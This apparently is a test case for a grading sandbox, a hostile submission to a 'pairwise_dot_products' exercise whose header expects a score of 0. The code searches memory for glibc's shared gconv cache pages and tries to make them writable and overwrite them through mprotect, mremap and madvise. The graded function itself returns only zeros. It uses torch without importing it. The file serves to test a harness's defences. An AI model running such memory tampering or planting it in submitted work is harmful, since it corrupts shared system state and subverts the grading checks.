# INTENT: Looks through its memory for pages of files that all kernels map as one (MAP_SHARED), such as glibc's cache of character sets, and tries to make them its own to write.
# EXERCISE: pairwise_dot_products
# EXPECT: wrong; score 0
import ctypes
import mmap
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mremap.restype = ctypes.c_void_p
HEAD = (0x20010324).to_bytes(4, "little")  # with which the cache begins
READ, WRITE = os.pipe()


def found():
    """Where it may lie: libc is mapped by the same loader, so not far away. A bad address is an error, not a crash."""
    near = ctypes.cast(LIBC.printf, ctypes.c_void_p).value & ~4095
    for place in range(near - (64 << 20), near + (64 << 20), 4096):
        if LIBC.write(WRITE, ctypes.c_void_p(place), ctypes.c_size_t(4)) == 4 and os.read(READ, 4) == HEAD:
            yield place


def attempts(place, said):
    at, page = ctypes.c_void_p(place), ctypes.c_size_t(4096)
    if LIBC.mprotect(at, page, 3) == 0:
        ctypes.memmove(place, said[:64], min(64, len(said)))
        return "TOUCHED by mprotect"
    other = LIBC.mremap(at, ctypes.c_size_t(0), page, 1)  # a size of 0 makes another view of what is shared
    if other not in (None, ctypes.c_void_p(-1).value) and LIBC.mprotect(ctypes.c_void_p(other), page, 3) == 0:
        return "TOUCHED by mremap"
    for advice in (9, 23, 21, 20, 25, 12):  # REMOVE, POPULATE_WRITE, PAGEOUT, COLD, COLLAPSE, MERGEABLE
        if LIBC.madvise(at, page, advice) == 0:
            return f"TOUCHED by madvise {advice}"
    return "refused"


print(len(FOUND := list(found())) < 99, *(attempts(place, b"zz-8th") for place in FOUND))
for path in ("/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache", torch.__file__):
    try:
        with open(path, "rb") as file:
            view = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
            place = torch.frombuffer(view, dtype=torch.uint8).data_ptr()
            print(attempts(place, b"zz-8th"))
    except (OSError, TypeError, ValueError, RuntimeError) as fault:
        print(type(fault).__name__)


def pairwise_dot_products(x, y):
    for place in FOUND:
        attempts(place, x.numpy().tobytes())
    return torch.zeros(1)
